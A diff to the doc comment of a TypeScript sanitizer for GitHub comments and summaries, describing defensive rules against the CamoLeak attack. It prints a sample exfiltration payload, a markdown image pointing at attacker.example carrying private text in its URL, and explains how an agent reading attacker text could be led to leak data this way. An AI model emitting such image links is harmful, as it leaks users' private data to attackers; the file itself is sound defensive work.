@@ -18,9 +18,16 @@
  *   `<img>`, an unterminated comment) shows as the text it is and hides nothing. Tags are escaped, not
  *   removed: text in angle brackets is often no HTML at all (`data.<key>`, `Vec<String>`), and removing it
  *   would change what the text says;
- * - no requests to other hosts: links and images are kept only for `https:` URLs; others become their text
- *   (bare `http:`/`www.` URLs become code); reference-style links are resolved here and their definitions
- *   dropped, and every other `[`/`]` is escaped, so no link or image can form from leftovers;
+ * - no requests to other hosts: every image of a comment or summary is loaded, without a click, by everyone
+ *   who views it (through GitHub's image proxy), so an agent that read attacker text could send private text
+ *   out in an image's URL (`![x](https://attacker.example/p.png?d=…)`, the CamoLeak attack). An image is
+ *   kept only for an `https:` URL on GitHub's own hosts (`isGitHubImage`: github.com, `*.githubusercontent.com`
+ *   but the image proxy, and the GitHub server the text is shown on, `SanitizeOptions.serverUrl`); any other
+ *   `https:` image becomes a link that says it is one (`[image: x](https://…)`), followed only by a reader
+ *   who chooses to, or inside a link's text (a badge) that text alone. Links are kept only for `https:`
+ *   URLs. Other URLs become their text (bare `http:`/`www.` URLs become code); reference-style links are
+ *   resolved here and their definitions dropped, and every other `[`/`]` is escaped, so no link or image can
+ *   form from leftovers (nor from a `!` left before a link this module made: see `Pieces.resolve`);
  * - no invisible characters (zero-width, bidi controls, Unicode tags, variation-selector smuggling);
  * - no secrets (`redactText`, before and after the rewriting, since removing a comment can join two halves);
  * - no forged sticky-comment marker: `baton:report:` is rewritten wherever it appears, code included;
@@ -45,6 +52,12 @@
 export interface SanitizeOptions {
     /** Secret values to redact, besides the token shapes `redactText` knows. */
     secrets?: readonly string[];
+    /**
+     * The URL of the GitHub server the text is shown on (the runner's `GITHUB_SERVER_URL`): images on its host
+     * (and port) are kept, besides those on github.com and githubusercontent.com. For GitHub Enterprise (a
+     * server of its own, or GHE.com); absent, or a URL that does not parse, adds no host.
+     */
+    serverUrl?: string;
 }
 /** Remove invisible characters and normalise line ends (`\r\n`, `\r`, U+2028, U+2029 become `\n`). */
 export declare function removeInvisible(text: string): string;
